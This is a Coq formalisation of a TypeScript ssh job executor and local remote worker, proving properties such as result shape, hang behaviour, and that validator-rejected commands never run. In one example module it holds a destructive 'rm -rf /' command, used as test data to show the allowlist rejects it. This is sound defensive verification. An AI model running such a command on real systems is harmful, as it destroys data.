(** ** More about scripts/ssh-executor.ts *)
(* ===================================================================== *)

Module SshExecutorFacts.
Import JS SshExecutor.





(** The result of the catch block of [runJob] for the error text [e]. *)
Definition failure (w : World) (wid : jsstring) (input : JobInput) (e : jsstring)
  : JobResult :=
{| res_job_id := job_id input; res_status := failed;
   exit_code := (-1)%Z; stdout := []; stderr := e;
   artifacts := []; duration_ms := (Date_now w 1 - Date_now w 0)%Z;
   worker_id := wid |}.

(** *** Lemmas *)





Lemma run_try_shape w wid input n r n' :
  run_try w wid input n = (Resolved r, n') ->
  res_job_id r = job_id input /\ worker_id r = wid /\ artifacts r = [].
Proof.
unfold run_try, ebind.
destruct (await_ssh w (MkdirSession (job_id input)) None n) as [[?| |] n1];
  try discriminate.
destruct (write_files w (job_id input) (files input) n1) as [[?| |] n2];
  try discriminate.
destruct (await_ssh w (RunCommand _ _ _ _) _ n2) as [[result| |] n3];
  try discriminate.
destruct (await_ssh w (ListOutput _) None n3) as [[?| |] n4]; try discriminate.
destruct (await_ssh w (RemoveSession _) None n4) as [[?| |] n5]; try discriminate.
unfold eret. intros H. injection H as <- _. repeat split.
Qed.

Lemma parseInt_nonneg ds : forallb is_digit ds = true -> (0 <= parseInt ds)%Z.
Proof.
intros H. apply (parseInt_nonneg_from ds 0 H). lia.
Qed.

(** *** Theorems *)

(** X21. Whatever [runJob] returns carries the job's id and the worker's id,
    never lists an artifact (the directory listing is thrown away), is
    "finished" exactly when the exit code is 0, and is never "timeout". *)
Theorem runJob_result_shape (w : World) (wid : jsstring) (input : JobInput)
  (r : JobResult) :
  runJob w wid input = Some r ->
  res_job_id r = job_id input /\ worker_id r = wid /\ artifacts r = [] /\
  (res_status r = finished <-> exit_code r = 0%Z) /\
  res_status r <> timeout.
Proof.
intros H. destruct (runJob_status w wid input r H) as (S1 & _ & S3).
revert H. unfold runJob.
destruct (run_try w wid input 0) as [[r0|e|] n] eqn:E; [| |discriminate].
- intros H. injection H as <-.
  destruct (run_try_shape _ _ _ _ _ _ E) as (J & W & A). auto.
- destruct (sshExec _ None); [| |discriminate];
    intros H; injection H as <-; cbn; auto.
Qed.



(** X24. Only the job's command runs under a timer: when the ssh process that
    creates the session directories never closes, [runJob] never
    settles. *)
Theorem runJob_hangs_with_setup (w : World) (wid : jsstring) (input : JobInput) :
  spawn w 0 (MkdirSession (job_id input)) = Hangs ->
  runJob w wid input = None.
Proof.
intros H. unfold runJob, run_try, ebind. unfold await_ssh at 1.
rewrite H. reflexivity.
Qed.

(** X25. [parseMemory] never gives a negative number of megabytes. *)
Theorem parseMemory_nonneg (memStr : jsstring) : (0 <= parseMemory memStr)%Z.
Proof.
destruct (full_match memory_re memStr) eqn:E.
- apply full_match_spec, memory_form_matches in E
    as (ds & u & -> & Hd & Hu).
  rewrite (parseMemory_form ds u Hd Hu). cbv zeta.
  pose proof (parseInt_nonneg ds (proj2 Hd)) as H0.
  destruct (jseqb _ (js "GB")); [lia|].
  destruct (jseqb _ (js "KB")); [|assumption].
  unfold ceil_div_1024. apply Z.div_pos; lia.
- unfold parseMemory. rewrite E. cbn [negb]. lia.
Qed.

End SshExecutorFacts.

Module SshExecutorFactsExamples.
Import JS SshExecutor SshExecutorFacts.


(** No ssh process ever closes. *)
Definition unreachable_world : World :=
{| spawn := fun _ _ => Hangs; Date_now := Date_now sleep_world |}.

Definition two_file_job : JobInput :=
{| job_id := js "job-2"; command := js "node build.js";
   files := [(js "build.js", js "1"); (js "data.json", js "{}")];
   limits := {| limit_cpu := 1; limit_memory := js "1GB";
                limit_timeout := 60000 |} |}.

Lemma runJob_result_shape_witness :
  let r := failure sleep_world (js "docker-worker-1") sleep_job
             (js "Error: Command timed out after 5500ms") in
  res_job_id r = job_id sleep_job /\ worker_id r = js "docker-worker-1" /\
  artifacts r = [] /\
  (res_status r = finished <-> exit_code r = 0%Z) /\
  res_status r <> timeout.
Proof.
apply (runJob_result_shape sleep_world (js "docker-worker-1") sleep_job).
vm_compute. reflexivity.
Defined.



Lemma runJob_hangs_with_setup_witness :
  runJob unreachable_world (js "docker-worker-1") two_file_job = None.
Proof.
apply (runJob_hangs_with_setup unreachable_world (js "docker-worker-1")
         two_file_job).
reflexivity.
Defined.

End SshExecutorFactsExamples.

(* ===================================================================== *)
(** ** A caller of the three: LocalRemoteWorker.runJob (test-remote.ts) *)
(* ===================================================================== *)

Module RemoteWorker.
Import JS Allowlist Lifecycle.

Record RemoteJobLimits : Type := {
  cpu_limit : Z;
  memory_limit : jsstring;
  timeout_limit : Z
}.

Record RemoteJobInput : Type := {
  remote_job_id : jsstring;
  remote_command : jsstring;
  remote_files : list (jsstring * jsstring);
  remote_limits : RemoteJobLimits
}.

Record RemoteJobResult : Type := {
  result_job_id : jsstring;
  result_status : SshExecutor.status;
  result_exit_code : Z;
  result_stdout : jsstring;
  result_stderr : jsstring;
  result_artifacts : list path;
  result_duration_ms : Z;
  result_worker_id : jsstring
}.

Record LocalRemoteWorker : Type := {
  sessionManager : Manager;
  workerId : jsstring;
  testDir : path
}.

(** An absolute path as the string [path.join] makes of it. *)
Definition path_to_string (p : path) : jsstring :=
flat_map (fun segment => js "/" ++ segment) p.

(** [`${reason}`] for an optional string. *)
Definition reason_text (r : option jsstring) : jsstring :=
match r with
| Some text => text
| None => js "undefined"
end.

(** [createSession(job_id)]: the options default to [{}]. *)
Definition default_options : SessionOptions :=
{| opt_base_dir := None; work_dir_name := None; output_dir_name := None |}.

(** [Math.max(...xs)] on integers. *)
Definition max_of (xs : list Z) : Z := fold_right Z.max (List.hd 0%Z xs) xs.

(** Methods that destroy a session. *)
Definition destroys (c : call) : bool :=
match c with
| CallDestroy _ | CallDestroySafe _ => true
| _ => false
end.

Section WithEnv.

Variable env : Env.

(** The process id, and what [spawnSync("bash", ["-c", command], ...)] does
    in a directory: its result, and the files it leaves. *)
Variable pid : Z.
Variable spawnSync :
  jsstring -> jsstring -> GovernorOps.PartialLimits Z -> gmap path node ->
  GovernorOps.spawn_outcome Z * gmap path node.

Definition advance_clock (n : nat) (st : State) : State :=
{| active_sessions := active_sessions st; heap := heap st;
   next_loc := next_loc st; files := files st;
   uuids_drawn := uuids_drawn st;
   clock_reads := n + clock_reads st; trace := trace st |}.

(** [executeWithGovernance(command, cwd, limits)] among the session's
    files, numbers being integers. *)
Definition executeWithGovernance (command : jsstring) (cwd : path)
  (l : GovernorOps.PartialLimits Z) : M (GovernorOps.ExecutionResult Z) :=
fun st =>
  match fst (GovernorOps.executeWithGovernance Z 0%Z Z.sub max_of (fun z => z)
               (import_error env) pid
               (fun i => Date_now env (i + clock_reads st))
               (fun c d l' => fst (spawnSync c d l' (files st)))
               command (path_to_string cwd) l)
  with
  | inl e => (Throw e, advance_clock 1 st)
  | inr r =>
      (Ok r,
       with_files (advance_clock 3 st)
         (snd (spawnSync command (path_to_string cwd) l (files st))))
  end.

Definition failed_result (w : LocalRemoteWorker) (input : RemoteJobInput)
  (error : jsstring) (duration : Z) : RemoteJobResult :=
{| result_job_id := remote_job_id input;
   result_status := SshExecutor.failed;
   result_exit_code := (-1)%Z;
   result_stdout := [];
   result_stderr := error;
   result_artifacts := [];
   result_duration_ms := duration;
   result_worker_id := workerId w |}.

(** The try block of [runJob]. *)
Definition run_try (w : LocalRemoteWorker) (input : RemoteJobInput)
  (startTime : Z) : M RemoteJobResult :=
let validation := validateCommand (remote_command input) in
(if allowed validation then ret tt
 else throw (js "Error: Command not allowed: " ++ reason_text (reason validation))) >>
let* session :=
  createSession env (sessionManager w) (remote_job_id input) default_options in
prepareSession env (sessionManager w) session (remote_files input) >>
(* this class's parseMemory is, line for line, that of ssh-executor.ts *)
let memoryMb := SshExecutor.parseMemory (memory_limit (remote_limits input)) in
let* o := read session in
let* result :=
  executeWithGovernance (remote_command input) (work_dir o)
    {| GovernorOps.p_cpu := Some (cpu_limit (remote_limits input));
       GovernorOps.p_memory_mb := Some memoryMb;
       GovernorOps.p_timeout_ms := Some (timeout_limit (remote_limits input));
       GovernorOps.p_max_output_bytes := Some (10 * 1024 * 1024)%Z |} in
let* artifacts := collectArtifacts env (sessionManager w) session in
let status :=
  SshExecutor.classify_status (GovernorOps.exit_code Z result)
    (GovernorOps.signal Z result) in
let* finish := now env in
ret {| result_job_id := remote_job_id input;
       result_status := status;
       result_exit_code := GovernorOps.exit_code Z result;
       result_stdout := GovernorOps.stdout Z result;
       result_stderr := GovernorOps.stderr Z result;
       result_artifacts := artifacts;
       result_duration_ms := (finish - startTime)%Z;
       result_worker_id := workerId w |}.

(** [runJob(input)]; an error is what [String(error)] makes of it. *)
Definition runJob (w : LocalRemoteWorker) (input : RemoteJobInput)
  : M RemoteJobResult :=
let* startTime := now env in
try_catch (run_try w input startTime)
  (fun error =>
     let* finish := now env in
     ret (failed_result w input error (finish - startTime)%Z)).

(** A computation that enters no method that destroys a session. *)
Definition Undestroying {A} (m : M A) : Prop :=
forall st, exists t,
  trace (snd (m st)) = trace st ++ t /\ forallb (fun c => negb (destroys c)) t = true.

(** *** Lemmas *)

Lemma Undestroying_Grows {A} (m : M A) e :
  Grows m e -> forallb (fun c => negb (destroys c)) e = true -> Undestroying m.
Proof. intros G H st. exists e. split; [apply (G st) | exact H]. Qed.

Lemma Undestroying_bind {A B} (m : M A) (k : A -> M B) :
  Undestroying m -> (forall a, Undestroying (k a)) -> Undestroying (bind m k).
Proof.
intros Hm Hk st. unfold bind. destruct (Hm st) as (t1 & T1 & F1).
destruct (m st) as [[a|e] st1]; cbn [snd] in *.
- destruct (Hk a st1) as (t2 & T2 & F2). exists (t1 ++ t2). split.
  + rewrite T2, T1, app_assoc. reflexivity.
  + rewrite forallb_app, F1, F2. reflexivity.
- exists t1. auto.
Qed.

Lemma Undestroying_try_catch {A} (body : M A) (h : jsstring -> M A) :
  Undestroying body -> (forall e, Undestroying (h e)) ->
  Undestroying (try_catch body h).
Proof.
intros Hb Hh st. unfold try_catch. destruct (Hb st) as (t1 & T1 & F1).
destruct (body st) as [[a|e] st1]; cbn [snd] in *.
- exists t1. auto.
- destruct (Hh e st1) as (t2 & T2 & F2). exists (t1 ++ t2). split.
  + rewrite T2, T1, app_assoc. reflexivity.
  + rewrite forallb_app, F1, F2. reflexivity.
Qed.

Lemma Undestroying_createSession m job options :
  Undestroying (createSession env m job options).
Proof.
intros st. destruct (createSession env m job options st) as [r st'] eqn:E.
apply createSession_run in E as [T _]. exists [CallCreate job]. auto.
Qed.

Lemma Undestroying_executeWithGovernance command cwd l :
  Undestroying (executeWithGovernance command cwd l).
Proof.
intros st. exists []. unfold executeWithGovernance.
destruct (fst _); cbn [snd]; rewrite app_nil_r; auto.
Qed.

Lemma Undestroying_run_try w input startTime :
  Undestroying (run_try w input startTime).
Proof.
unfold run_try. apply Undestroying_bind.
- destruct (allowed _);
    [apply (Undestroying_Grows _ [] (Grows_ret tt) eq_refl)
    |apply (Undestroying_Grows _ [] (Grows_throw _) eq_refl)].
- intros _. apply Undestroying_bind; [apply Undestroying_createSession|].
  intros session. apply Undestroying_bind.
  { apply (Undestroying_Grows _ _ (Grows_prepareSession env _ _ _) eq_refl). }
  intros _. apply Undestroying_bind.
  { apply (Undestroying_Grows _ _ (Grows_read _) eq_refl). }
  intros o. apply Undestroying_bind;
    [apply Undestroying_executeWithGovernance|].
  intros result. apply Undestroying_bind.
  { apply (Undestroying_Grows _ _ (Grows_collectArtifacts env _ _) eq_refl). }
  intros artifacts. apply Undestroying_bind.
  { apply (Undestroying_Grows _ _ (Grows_now env) eq_refl). }
  intros finish. apply (Undestroying_Grows _ [] (Grows_ret _) eq_refl).
Qed.

Lemma rejected_has_reason command :
  allowed (validateCommand command) = false ->
  exists why, reason (validateCommand command) = Some why.
Proof.
unfold validateCommand. destruct (trim command); [eauto|].
destruct (List.find _ DANGEROUS_PATTERNS); [eauto|].
destruct (includes _ _); [discriminate|].
destruct (existsb _ ALLOWED_PATTERNS); [discriminate | eauto].
Qed.

(** *** Theorems *)

(** X26. A command that [validateCommand] rejects is never run: [runJob]
    returns a failed result with exit code -1 and the reason as stderr,
    and no session, file or registry entry is made. *)
Theorem runJob_rejected_command_runs_nothing
  (w : LocalRemoteWorker) (input : RemoteJobInput) (st : State) :
  allowed (validateCommand (remote_command input)) = false ->
  exists why,
    reason (validateCommand (remote_command input)) = Some why /\
    runJob w input st =
    (Ok (failed_result w input (js "Error: Command not allowed: " ++ why)
           (Date_now env (S (clock_reads st)) - Date_now env (clock_reads st))),
     advance_clock 2 st).
Proof.
intros Hr. destruct (rejected_has_reason _ Hr) as [why Hw].
exists why. split; [assumption|].
unfold runJob, run_try, bind, now, try_catch, throw, ret.
rewrite Hr, Hw. reflexivity.
Qed.

(** X27. [runJob] never throws and never destroys the session it creates:
    it returns a result for the job and the worker, having entered no
    destroying method. *)
Theorem runJob_returns_and_never_destroys
  (w : LocalRemoteWorker) (input : RemoteJobInput) (st : State) :
  exists r st' t,
    runJob w input st = (Ok r, st') /\
    result_job_id r = remote_job_id input /\
    result_worker_id r = workerId w /\
    trace st' = trace st ++ t /\
    forallb (fun c => negb (destroys c)) t = true.
Proof.
assert (U : Undestroying (runJob w input)).
{ unfold runJob. apply Undestroying_bind.
  - apply (Undestroying_Grows _ _ (Grows_now env) eq_refl).
  - intros startTime. apply Undestroying_try_catch.
    + apply Undestroying_run_try.
    + intros e. apply Undestroying_bind.
      * apply (Undestroying_Grows _ _ (Grows_now env) eq_refl).
      * intros finish. apply (Undestroying_Grows _ [] (Grows_ret _) eq_refl). }
destruct (U st) as (t & T & F).
destruct (runJob w input st) as [r st'] eqn:E. cbn [snd] in T.
revert E. unfold runJob. unfold bind at 1, now at 1. cbn beta iota.
unfold try_catch.
match goal with |- context [run_try w input ?a ?b] =>
  destruct (run_try w input a b) as [[r0|e] st1] eqn:E1 end.
- intros E. injection E as <- <-. exists r0, st1, t.
  split; [reflexivity|]. split; [|split; [|split; assumption]].
  + revert E1. unfold run_try. intros E1.
    repeat (apply LifecycleFacts.bind_Ok_inv in E1 as (? & ? & _ & E1)).
    injection E1 as <- _. reflexivity.
  + revert E1. unfold run_try. intros E1.
    repeat (apply LifecycleFacts.bind_Ok_inv in E1 as (? & ? & _ & E1)).
    injection E1 as <- _. reflexivity.
- unfold bind, now, ret. intros E. injection E as <- <-.
  eexists _, _, t. split; [reflexivity|]. repeat split; assumption.
Qed.

End WithEnv.

End RemoteWorker.

Module RemoteWorkerExamples.
Import JS Allowlist Lifecycle LifecycleExamples RemoteWorker.

Definition test_worker : LocalRemoteWorker :=
{| sessionManager := demo_manager;
   workerId := js "local-worker-0f8fad5b";
   testDir := DEFAULT_BASE_DIR |}.

(** Every command prints "hi" and exits with code 0. *)
Definition quiet_spawn (command cwd : jsstring) (l : GovernorOps.PartialLimits Z)
  (f : gmap path node) : GovernorOps.spawn_outcome Z * gmap path node :=
(GovernorOps.SpawnReturns Z (Some 0%Z) None (Some (js "hi")) (Some []), f).

Definition wipe_job : RemoteJobInput :=
{| remote_job_id := js "job-9"; remote_command := js "rm -rf /";
   remote_files := [(js "a.txt", js "x")];
   remote_limits := {| cpu_limit := 1; memory_limit := js "512MB";
                       timeout_limit := 1000 |} |}.

Definition echo_job : RemoteJobInput :=
{| remote_job_id := js "job-7"; remote_command := js "echo hi";
   remote_files := [(js "a.txt", js "x")];
   remote_limits := {| cpu_limit := 1; memory_limit := js "512MB";
                       timeout_limit := 1000 |} |}.

Example runJob_echo :
  let r := runJob quiet_env 4242%Z quiet_spawn test_worker echo_job
             (snd (initialize quiet_env demo_manager empty_state)) in
  fst r = Ok {| result_job_id := js "job-7";
                result_status := SshExecutor.finished;
                result_exit_code := 0; result_stdout := js "hi";
                result_stderr := [];
                result_artifacts := [];
                result_duration_ms := 5;
                result_worker_id := js "local-worker-0f8fad5b" |} /\
  trace (snd r) = [CallCreate (js "job-7"); CallPrepare 0; CallCollect 0] /\
  active_sessions (snd r) !! js "0f8fad5b" = Some 0 /\
  files (snd r) !! (demo_session_dir ++ [js "work"; js "a.txt"])
    = Some (File (js "x")).
Proof. vm_compute. repeat split; reflexivity. Qed.

Lemma runJob_rejected_command_runs_nothing_witness :
  exists why,
    reason (validateCommand (remote_command wipe_job)) = Some why /\
    runJob quiet_env 4242%Z quiet_spawn test_worker wipe_job demo_state =
    (Ok (failed_result test_worker wipe_job
           (js "Error: Command not allowed: " ++ why)
           (Date_now quiet_env (S (clock_reads demo_state))
            - Date_now quiet_env (clock_reads demo_state))),
     advance_clock 2 demo_state).
Proof.
apply (runJob_rejected_command_runs_nothing quiet_env 4242%Z quiet_spawn
         test_worker wipe_job demo_state).
vm_compute. reflexivity.
Defined.

End RemoteWorkerExamples.
